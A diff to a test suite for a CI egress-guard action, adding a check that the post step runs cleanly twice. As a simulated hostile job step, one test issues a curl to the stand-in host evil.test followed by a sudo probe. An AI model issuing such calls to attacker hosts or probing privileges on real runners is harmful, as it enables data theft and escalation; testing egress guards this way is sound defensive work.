@@ -96,6 +96,8 @@ describe.skipIf(missing.length > 0)(`the action${missing[0]?.note ?? ""}`, () =>
     expect(post?.stdout).toMatch(/^::warning title=.*evil\.test/m);
     expect(post?.outputs).toMatchObject({ "effective-mode": "block", violations: "2" });
     expect(`${post?.stdout}${post?.summary}`).not.toContain(SECRET);
+    // Which is no process of the job's, and still runs.
+    expect(post?.summary).not.toContain("post.mjs");
     // The second use of the action is a process of the job's, and no thief.
     expect(post?.summary).not.toContain("Environment of another process read");
 
@@ -103,10 +105,12 @@ describe.skipIf(missing.length > 0)(`the action${missing[0]?.note ?? ""}`, () =>
     const [, nextMain, nextWork, nextPost] = await runner.job(
       [
         {
-          ...action.uses("guard", {
-            "egress-policy": "audit",
-            "report-artifact-path": "copy.json",
-          }),
+          ...withPostTwice(
+            action.uses("guard", {
+              "egress-policy": "audit",
+              "report-artifact-path": "copy.json",
+            }),
+          ),
           stateAtEnd: {},
         },
         { id: "work", run: `${curl("evil.test")}; sudo -n id -u` },
@@ -121,6 +125,7 @@ describe.skipIf(missing.length > 0)(`the action${missing[0]?.note ?? ""}`, () =>
       status: 0,
       summary: expect.stringContaining("its state is gone"),
     });
+    expect(nextPost?.summary.match(/^## .*Runner Guard in audit mode/gm)).toHaveLength(1);
     const copy = readFileSync(join(toWorkspace(machine, 2), "copy.json"), "utf8");
     expect(copy).toContain(nextMain?.outputs["run-id"]);
     await expect.poll(() => runner.shell("ls /run/runner-guard")).toBe("lock\nreport.json\n");
@@ -203,6 +208,11 @@ async function startSidecar(runner: RunnerMachine): Promise<void> {
   const flags = "--state-dir /run/runner-guard --report /run/runner-guard/report.json --quiet";
   await runner.shell(`setsid ${GUARD} watch ${flags} > /dev/null 2>&1 &
     until [ -e /run/runner-guard/ready ]; do sleep 0.05; done`);
+}
+
+function withPostTwice(step: ReturnType<BuiltAction["uses"]>): ReturnType<BuiltAction["uses"]> {
+  const post = ["sh", "-c", '"$0" "$@" && "$0" "$@"', ...(step.uses.post ?? [])];
+  return { ...step, uses: { ...step.uses, post } };
 }
 
 function toStatuses(phases: readonly Phase[]): string[] {
